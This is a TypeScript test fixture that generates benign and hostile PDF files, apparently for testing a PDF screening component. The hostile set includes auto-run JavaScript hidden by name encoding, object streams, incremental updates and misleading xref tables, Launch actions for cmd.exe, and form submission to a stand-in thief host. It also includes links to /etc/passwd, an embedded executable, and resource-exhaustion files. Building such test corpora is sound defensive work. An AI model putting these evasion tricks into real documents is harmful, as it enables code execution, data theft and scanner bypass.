import { deflateSync } from 'node:zlib';

const join = (...parts: (Uint8Array | string)[]) =>
  Buffer.concat(
    parts.map(part => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))),
  );

/** Objects of an honest document of one page, by number; its catalogue is the first. */
export const onePage = (catalog = '', page = ''): Record<number, string | Buffer> => ({
  1: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
  2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R ${page} >>`,
  4: streamOf('', 'BT ET'),
});

export const streamOf = (entries: string, content: Uint8Array | string) =>
  join(`<< ${entries} /Length ${content.length} >> stream\n`, content, '\nendstream');

/** A document as it should be written: each object where its table says. */
export function pdfOf(objects: Record<number, string | Buffer>, trailer = '', head = '%PDF-1.7\n'): Buffer {
  const { bytes, places } = laidOut(objects, head);
  const numbers = Object.keys(places).map(Number);
  const size = Math.max(...numbers) + 1;
  const entries = Array.from({ length: size }, (_, number) =>
    places[number] === undefined
      ? '0000000000 65535 f \n'
      : `${String(places[number]).padStart(10, '0')} 00000 n \n`,
  );
  return join(
    bytes,
    `xref\n0 ${size}\n${entries.join('')}trailer << /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${bytes.length}\n%%EOF\n`,
  );
}

/**
 * The same with objects that are packed in a stream, and a table that is one.
 * @param holder what the dictionary of the stream says of itself.
 */
export function packedPdf(
  objects: Record<number, string | Buffer>,
  packed: Record<number, string>,
  holder = '/Type /ObjStm',
): Buffer {
  const inside = Object.entries(packed);
  let at = 0;
  const heads = inside.map(([number, body]) => {
    const head = `${number} ${at}`;
    at += body.length + 1;
    return head;
  });
  const first = `${heads.join(' ')} `;
  const content = deflateSync(first + inside.map(([, body]) => body).join('\n'));
  const stream = streamOf(
    `${holder} /N ${inside.length} /First ${first.length} /Filter /FlateDecode`,
    content,
  );
  const { bytes, places } = laidOut({ ...objects, 90: stream }, '%PDF-1.7\n');
  const row = (type: number, place: number, more: number) => {
    const entry = Buffer.alloc(6);
    entry.writeUInt8(type);
    entry.writeUInt32BE(place, 1);
    entry.writeUInt8(more, 5);
    return entry;
  };
  const order = Object.keys(packed);
  const rows = Array.from({ length: 92 }, (_, number) => {
    if (number === 91) return row(1, bytes.length, 0);
    if (packed[number] !== undefined) return row(2, 90, order.indexOf(String(number)));
    return places[number] === undefined ? row(0, 0, 255) : row(1, places[number], 0);
  });
  const table = streamOf(
    '/Type /XRef /Size 92 /W [1 4 1] /Root 1 0 R /Filter /FlateDecode',
    deflateSync(join(...rows)),
  );
  return join(bytes, '91 0 obj ', table, ` endobj\nstartxref\n${bytes.length}\n%%EOF\n`);
}

function laidOut(objects: Record<number, string | Buffer>, head: string) {
  const places: Record<number, number> = {};
  let bytes = join(head);
  for (const [number, body] of Object.entries(objects)) {
    places[Number(number)] = bytes.length;
    bytes = join(bytes, `${number} 0 obj `, body, '\nendobj\n');
  }
  return { bytes, places };
}

/** Documents that a client may bring. */
export function goodPdfs(): Record<string, Buffer> {
  const link =
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://karhba.example) >> >>';
  const inside = '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> >>';
  return {
    'of one page': pdfOf(onePage()),
    'that opens at its page, as LibreOffice writes it': pdfOf(
      onePage('/OpenAction [3 0 R /XYZ null null 0]'),
    ),
    'that opens at its page by an action': pdfOf(onePage('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>')),
    'with links and bookmarks': pdfOf({
      ...onePage('/Outlines 6 0 R', `/Annots [${link} ${inside}]`),
      6: '<< /Type /Outlines /First 7 0 R /Last 8 0 R /Count 2 >>',
      7: '<< /Title (Un) /Parent 6 0 R /Next 8 0 R /Dest [3 0 R /Fit] >>',
      8: '<< /Title (Deux \\(2\\) \\303\\251) /Parent 6 0 R /Prev 7 0 R /A << /S /GoTo /D (x) >> >>',
    }),
    'with a form to fill in': pdfOf(
      onePage('/AcroForm << /Fields [<< /FT /Tx /T (nom) /Rect [0 0 9 9] /Subtype /Widget >>] >>'),
    ),
    'with a stream whose length another object tells': pdfOf({
      ...onePage(),
      4: join('<< /Length 5 0 R >> stream\r\n', 'BT ET', '\r\nendstream'),
      5: '5',
    }),
    'with packed objects': packedPdf(
      { 4: onePage()[4] ?? '' },
      { 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: String(onePage()[2]), 3: String(onePage()[3]) },
    ),
    'changed once after it was made': changed(pdfOf(onePage()), 4, String(streamOf('', 'BT  ET'))),
  };
}

/** A newer version of one object, behind the document. */
function changed(before: Buffer, number: number, body: string): Buffer {
  const start = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(before.toString('latin1'))?.[1]);
  const object = `${number} 0 obj ${body}\nendobj\n`;
  const table = `xref\n${number} 1\n${String(before.length).padStart(10, '0')} 00000 n \ntrailer << /Size 9 /Root 1 0 R /Prev ${start} >>\nstartxref\n${before.length + object.length}\n%%EOF\n`;
  return join(before, object, table);
}

/** Documents that do something, hide something, or that every program reads otherwise. @param mark said by what they do. */
export function hostilePdfs(mark = 'app.alert(1)'): Record<string, Buffer> {
  const script = `<< /S /JavaScript /JS (${mark}) >>`;
  const click = (action: string) =>
    onePage('', `/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`);
  const opening = (action: string) => onePage(`/OpenAction ${action}`);
  const page = { 2: String(onePage()[2]), 3: String(onePage()[3]), 4: onePage()[4] ?? '' };
  const catalog = `<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>`;
  const scripted = pdfOf({ ...opening('7 0 R'), 7: script });
  return {
    'pdf with a script': pdfOf(opening(script)),
    'pdf with a script spelt in codes': pdfOf(opening(`<< /S /J#61vaScr#69pt /J#53 (${mark}) >>`)),
    'pdf with a script in another object': scripted,
    'pdf with a script by two references': pdfOf({
      ...opening('7 0 R'),
      7: '8 0 R',
      8: `<< /S 9 0 R >>`,
      9: '/JavaScript',
    }),
    'pdf with a script by its names': pdfOf(onePage(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`)),
    'pdf with a script of its page': pdfOf(onePage('', `/AA << /O ${script} >>`)),
    'pdf with a script after a page': pdfOf(click(`<< /S /GoTo /D [3 0 R /Fit] /Next ${script} >>`)),
    'pdf with a script in packed objects': packedPdf({ ...page }, { 1: catalog, 7: script }),
    'pdf with a script in packed objects of no type': packedPdf({ ...page }, { 1: catalog, 7: script }, ''),
    'pdf with a script in packed objects of a false type': packedPdf(
      { ...page },
      { 1: catalog, 7: script },
      '/Type /XObject',
    ),
    'pdf with a script in packed objects spelt in codes': packedPdf(
      { ...page },
      { 1: catalog, 7: script },
      '/Type /Obj#53tm',
    ),
    'pdf with a script in a newer version': changed(
      pdfOf(onePage()),
      1,
      `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>`,
    ),
    'pdf with a script in an older version': changed(
      pdfOf(opening(script)),
      1,
      '<< /Type /Catalog /Pages 2 0 R >>',
    ),
    // The table leads into the bytes of a stream, a text or a comment.
    'pdf with a script in a stream': hiddenIn(script, hidden => streamOf('', `x ${hidden} x`)),
    'pdf with a script in a text': hiddenIn(script, hidden => `(x ${hidden.replaceAll(/[()]/g, '')} x)`),
    'pdf with a script in a comment': hiddenIn(script, hidden => `null % ${hidden}`),
    'pdf with a stream that ends before it does': pdfOf({
      ...onePage(),
      4: `<< /Length 500 >> stream\nBT ET\nendstream\nendobj\n7 0 obj ${script}`,
    }),
    'pdf with a stream longer than it says': pdfOf({
      ...onePage(),
      4: `<< /Length 2 >> stream\nBT\nendobj 7 0 obj ${script} endobj\nendstream`,
    }),
    'pdf with a stream after a carriage return alone': pdfOf({
      ...onePage(),
      4: '<< /Length 5 >> stream\rBT ET\nendstream',
    }),
    'pdf with a stream after a space': pdfOf({
      ...onePage(),
      4: '<< /Length 5 >> stream \nBT ET\nendstream',
    }),
    'pdf with an action twice': pdfOf(onePage(`/OpenAction [3 0 R /Fit] /OpenAction ${script}`)),
    'pdf with objects that no table names': join(pdfOf(onePage()), '\n7 0 obj ', script, ' endobj\n%%EOF\n'),
    'pdf without a table': join(
      pdfOf(onePage())
        .toString('latin1')
        .replace(/xref\n[\s\S]*trailer/, 'trailer'),
      '',
    ),
    'pdf whose table is elsewhere': join(
      pdfOf(onePage())
        .toString('latin1')
        .replace(/startxref\n\d+/, 'startxref\n9'),
      '',
    ),
    'pdf that starts a program': pdfOf(opening('<< /S /Launch /F (cmd.exe) >>')),
    'pdf that starts a program when clicked': pdfOf(click('<< /S /Launch /Win << /F (cmd.exe) >> >>')),
    'pdf that opens an address by itself': pdfOf(opening(`<< /S /URI /URI (https://${mark}.example) >>`)),
    'pdf that opens the print dialogue': pdfOf(opening('<< /S /Named /N /Print >>')),
    'pdf that opens another': pdfOf(click('<< /S /GoToR /F (//serveur/a.pdf) /D [0 /Fit] >>')),
    'pdf that opens one inside': pdfOf(click('<< /S /GoToE /T << /R /C /N (a) >> >>')),
    'pdf that sends its form': pdfOf(click('<< /S /SubmitForm /F (https://voleur.example) >>')),
    'pdf that empties its form': pdfOf(click('<< /S /ResetForm >>')),
    'pdf that brings data in': pdfOf(click('<< /S /ImportData /F (a.fdf) >>')),
    'pdf that does what nobody knows': pdfOf(click('<< /S /NewAction >>')),
    'pdf with a link that is a script': pdfOf(click(`<< /S /URI /URI (java\\nscript:${mark}) >>`)),
    'pdf with a link to a file': pdfOf(click('<< /S /URI /URI (file:///etc/passwd) >>')),
    'pdf with a link to another machine': pdfOf(click('<< /S /URI /URI (\\\\\\\\serveur\\\\a) >>')),
    'pdf with a file inside': pdfOf({
      ...onePage('/Names << /EmbeddedFiles << /Names [(a) 7 0 R] >> >>'),
      7: '<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>',
      8: streamOf('/Type /EmbeddedFile', mark),
    }),
    'pdf with a file pinned to its page': pdfOf(
      onePage('', '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]'),
    ),
    'pdf with a stream that is elsewhere': pdfOf({
      ...onePage(),
      4: '<< /Length 0 /F (//serveur/a) >> stream\n\nendstream',
    }),
    'pdf with a form that may run': pdfOf({
      ...onePage('/AcroForm << /Fields [] /XFA 7 0 R >>'),
      7: streamOf('', '<xdp/>'),
    }),
    'pdf with a film': pdfOf(onePage('', '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]')),
    'pdf that is a portfolio': pdfOf(onePage('/Collection << /View /T >>')),
    'pdf that is locked': pdfOf({ ...onePage(), 7: '<< /Filter /Standard /V 1 >>' }, '/Encrypt 7 0 R'),
    'pdf with a page behind': join(pdfOf(onePage()), `<script>${mark}</script>`),
    'pdf with a page behind, and its end again': join(pdfOf(onePage()), `<script>${mark}</script>\n%%EOF\n`),
    'page with a pdf inside': join(`<script>${mark}</script>`, pdfOf(onePage())),
    'pdf without its end': pdfOf(onePage()).subarray(0, -40),
    'pdf that goes round': pdfOf({ ...opening('7 0 R'), 7: '8 0 R', 8: '7 0 R' }),
    'pdf of brackets': pdfOf({ ...onePage(), 7: `${'['.repeat(100_000)}${']'.repeat(100_000)}` }),
    'pdf of four million values': pdfOf({ ...onePage(), 7: `[${'0 '.repeat(4_000_000)}]` }),
    'pdf of packed objects without end': packedPdf(
      { ...page },
      { 1: catalog, 7: `(${' '.repeat(40_000_000)})` },
    ),
  };
}

/** Object 7 is hidden within another, and the table says where. */
function hiddenIn(script: string, hide: (hidden: string) => string | Buffer): Buffer {
  const made = pdfOf({ ...onePage('/OpenAction 7 0 R'), 6: hide(`7 0 obj ${script} endobj`), 7: 'null' });
  const text = made.toString('latin1');
  const real = text.lastIndexOf('7 0 obj');
  const hidden = text.indexOf('7 0 obj');
  const place = (at: number) => `${String(at).padStart(10, '0')} 00000 n`;
  return Buffer.from(text.replace(place(real), place(hidden)), 'latin1');
}
